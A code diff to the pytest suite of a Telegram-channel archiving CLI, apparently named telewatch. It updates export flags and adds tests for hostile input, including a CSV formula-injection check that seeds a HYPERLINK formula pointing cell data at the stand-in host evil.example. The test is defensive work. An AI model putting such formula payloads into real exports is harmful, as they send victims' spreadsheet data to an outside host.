@@ -10,6 +10,7 @@ import io
 import json
 import logging
 import os
+import sqlite3
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -330,7 +331,7 @@ def test_stats_json(db: Path) -> None:
     assert (ru["first_post"], ru["last_post"]) == ("2024-05-01T12:00:00Z", "2024-05-03T12:00:00Z")
     assert (uk["posts"], uk["channel"], uk["title"]) == (1, None, "Херсонська ОДА")
     human = run("stats", db=db).stdout
-    assert "vsaldo" in human and "3 posts, 1 edits, 1 deletions" in human
+    assert "vsaldo" in human and "3 posts, 1 edited (1 new versions seen), 1 deletions" in human
 
 
 # ---------------------------------------------------------------------------- export
@@ -338,7 +339,7 @@ def test_stats_json(db: Path) -> None:
 
 def test_export_csv_has_a_bom_and_round_trips_cyrillic(db: Path, tmp_path: Path) -> None:
     out = tmp_path / "out.csv"
-    result = run("export", "эвакуация OR рынок", "--format", "csv", "-o", str(out), db=db)
+    result = run("export", "эвакуация OR рынок", "--format", "csv", "--output", str(out), db=db)
     assert result.exit_code == 0, result.output
     assert result.stderr.strip() == f"{out}: 3 post(s) written"
     raw = out.read_bytes()
@@ -360,7 +361,7 @@ def test_export_csv_has_a_bom_and_round_trips_cyrillic(db: Path, tmp_path: Path)
 
 def test_export_csv_keeps_quotes_and_commas(db: Path, tmp_path: Path) -> None:
     out = tmp_path / "quotes.csv"
-    run("export", "отменена", "-o", str(out), db=db)  # csv is the default
+    run("export", "отменена", "--output", str(out), db=db)  # csv is the default
     with out.open(encoding="utf-8-sig", newline="") as fh:
         (row,) = list(csv.DictReader(fh))
     assert row["text"] == "Эвакуация перенесена на завтра"  # the latest text
@@ -376,8 +377,9 @@ def test_export_csv_to_stdout(db: Path) -> None:
 
 def test_export_jsonl(db: Path, tmp_path: Path) -> None:
     out = tmp_path / "out.jsonl"
-    result = run("export", "херсон", "--channel", "vsaldo", "--format", "jsonl", "-o", str(out),
-                 db=db)  # fmt: skip
+    result = run(
+        "export", "херсон", "--channel", "vsaldo", "--format", "jsonl", "--output", str(out), db=db
+    )
     assert result.exit_code == 0, result.output
     rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
     assert [(r["channel_id"], r["message_id"]) for r in rows] == [(RU, 1)]
@@ -463,3 +465,72 @@ def test_the_installed_command_exits_2_without_a_traceback(db: Path, tmp_path: P
     assert proc.returncode == 2
     assert proc.stdout == ""
     assert proc.stderr == "Error: query '(эвакуация': unbalanced parenthesis '(' at 1\n"
+
+
+# ---------------------------------------------------------------------------- hostile input
+# Found by an independent end-to-end review: each of these printed a traceback or did the
+# wrong thing silently.
+
+
+@pytest.mark.parametrize("query", ["-shelling эвакуация", "-hello", "-scholar"])
+def test_a_leading_minus_word_is_searched_never_taken_for_help(db: Path, query: str) -> None:
+    result = run("search", query, "--json", db=db)
+    assert result.exit_code == 0, result.output
+    assert "Usage:" not in result.stdout
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (["search", "channel:99999999999999999999999"], "is not a channel id"),
+        (["search", "x", "--channel", "99999999999999999999999"], "is not a channel id"),
+        (["history", "vsaldo", "99999999999999999999"], "is not in the range"),
+        (["history", "99999999999999999999999", "1"], "is not a channel id"),
+        (["search", "(" * 300 + "a" + ")" * 300], "nested too deep"),
+        (["search", "NOT " * 3000 + "a"], "nested too deep"),
+        (["search", " ".join(["-a"] * 3000)], "too many terms (3000; at most 100)"),
+    ],
+)
+def test_huge_ids_and_monster_queries_are_one_line_errors(
+    db: Path, args: list[str], message: str
+) -> None:
+    result = run(*args, db=db)
+    assert result.exit_code == 2, result.output
+    assert message in result.stderr
+    # One line, or click's usage error (usage, hint, error) for an argument out of range.
+    assert len([line for line in result.stderr.splitlines() if line.strip()]) <= 3
+    assert "Traceback" not in result.output
+
+
+def test_csv_cells_never_become_formulas(tmp_path: Path) -> None:
+    path = tmp_path / "f.db"
+
+    async def fill() -> None:
+        archive = await Archive.open(path)
+        try:
+            await upsert_channel(archive, ChannelInfo(-1001811111111, "vsaldo"), source="export")
+            text = '=HYPERLINK("http://evil.example/?"&A1,"click") обстріл'
+            await ingest(archive, [Post(-1001811111111, 1, T0, text)], source="export",
+                         alerts=False)  # fmt: skip
+        finally:
+            await archive.close()
+
+    asyncio.run(fill())
+    out = tmp_path / "out.csv"
+    result = run("export", "обстріл", "--output", str(out), db=path)
+    assert result.exit_code == 0, result.output
+    (row,) = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+    assert row["text"].startswith("'=HYPERLINK(")
+    assert row["channel_id"] == "-1001811111111"  # numbers stay numbers
+
+
+def test_a_foreign_sqlite_file_is_refused_untouched(tmp_path: Path) -> None:
+    other = tmp_path / "other.db"
+    with sqlite3.connect(other) as conn:
+        conn.execute("CREATE TABLE invoices (id INTEGER)")
+    result = run("import", str(ROOT / "archiver" / "data" / "sample_channel.json"), db=other)
+    assert result.exit_code == 1
+    assert "not a telewatch archive" in result.stderr
+    with sqlite3.connect(other) as conn:
+        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master")]
+    assert tables == ["invoices"]
